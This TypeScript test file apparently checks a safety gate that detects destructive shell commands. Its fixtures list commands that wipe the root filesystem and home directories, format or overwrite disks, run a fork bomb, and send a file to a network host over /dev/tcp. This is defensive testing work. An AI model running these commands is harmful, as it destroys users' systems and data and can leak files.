import assert from "node:assert/strict";
import { test } from "node:test";
import { builtInGates } from "./built-in.ts";
import { findDestruction } from "./find-destruction.ts";
import { makeJudge } from "./make-judge.ts";
import { approvalOf, sampleEffects, sampleFacts } from "./sample-action.ts";

test("commands that destroy a system, a disk or a home are recognised in every plain spelling", () => {
  const destructive: readonly (readonly string[])[] = [
    ["rm", "-rf", "/"],
    ["rm", "--recursive", "--force", "/*"],
    ["sudo", "rm", "-fr", "/etc"],
    ["rm", "-r", "--no-preserve-root", "x"],
    ["bash", "-c", "rm -rf $HOME"],
    ["bash", "-c", `cd /tmp && rm -rf "$\{HOME}/"`],
    ["sh", "-c", "if true; then rm -rf ~; fi"],
    ["find", "/", "-delete"],
    ["rm", "-rf", "/home/ada"],
    ["rm", "-rf", "/home/ada/"],
    ["rm", "-rf", "/home/ada/*"],
    ["rm", "-rf", "/home/bob"],
    ["rm", "-rf", "/Users/bob/"],
    ["find", "/home/ada", "-delete"],
    ["mkfs.ext4", "/dev/sda"],
    ["mkfs", "-t", "ext4", "/dev/nvme0n1"],
    ["find", "/home", "-exec", "rm", "{}", "+"],
    ["dd", "if=/dev/zero", "of=/dev/sda"],
    ["bash", "-c", "cat /dev/zero > /dev/nvme0n1"],
    ["wipefs", "-a", "/dev/sdb"],
    ["shred", "/dev/sda"],
    ["chmod", "-R", "777", "/"],
    ["bash", "-c", "cat notes > /dev/tcp/example.org/80"],
    ["bash", "-c", ":(){ :|: & };:"],
    ["sudo", "-u", "root", "rm", "-rf", "/"],
    ["sudo", "--", "rm", "-rf", "/"],
    ["env", "-i", "A=b", "rm", "-rf", "/"],
    ["nice", "-n", "10", "rm", "-rf", "/home/ada"],
    ["timeout", "5", "rm", "-rf", "/"],
    ["xargs", "-0", "rm", "-rf", "/"],
    ["rm", "-rf", "/."],
    ["rm", "-rf", "/home/ada/.."],
    ["rm", "-rf", "/home/ada/../ada"],
    ["rm", "--recurs", "-f", "/"],
  ];
  for (const argv of destructive) assert.notEqual(findDestruction(argv, "/home/ada"), null, argv.join(" "));
});

test("ordinary deleting, searching and writing does not concern the gate", () => {
  const ordinary: readonly (readonly string[])[] = [
    ["rm", "-rf", "build"],
    ["rm", "-rf", "*"],
    ["rm", "-rf", "/home/ada/project"],
    ["mkfs.ext4", "disk.img"],
    ["rm", "/etc-copy"],
    ["rm", "-r", "./usr"],
    ["find", ".", "-name", "*.tmp", "-delete"],
    ["find", "/", "-name", "*.tmp", "-delete"],
    ["dd", "if=/dev/sda", "of=disk.img"],
    ["wipefs", "/dev/sda"],
    ["chmod", "-R", "u+w", "src"],
    ["bash", "-c", "rm -rf /tmp/x"],
    ["sudo", "-u", "root", "rm", "-rf", "/srv/build"],
    ["rm", "-rf", "/home/ada/project/../other"],
    ["timeout", "5", "find", "/", "-name", "*.tmp", "-delete"],
    ["bash", "-c", "echo done > out.txt"],
  ];
  for (const argv of ordinary) assert.equal(findDestruction(argv, "/home/ada"), null, argv.join(" "));
});

test("no approval lets destruction pass", () => {
  const effect = { ...sampleEffects.run, argv: ["rm", "-rf", "/"], proof: null, doubt: "rm deletes" };
  const licensed = { ...sampleFacts, licences: [approvalOf("unproved-program", "destruction")] };
  assert.equal(makeJudge(builtInGates)([effect], licensed).decision, "block");
});

test("a hostile command is searched in linear time", () => {
  const text = `${"rm -rf ".repeat(50_000)}${":(){ ".repeat(20_000)}`;
  assert.equal(findDestruction(["bash", "-c", text], "/home/ada"), null);
});
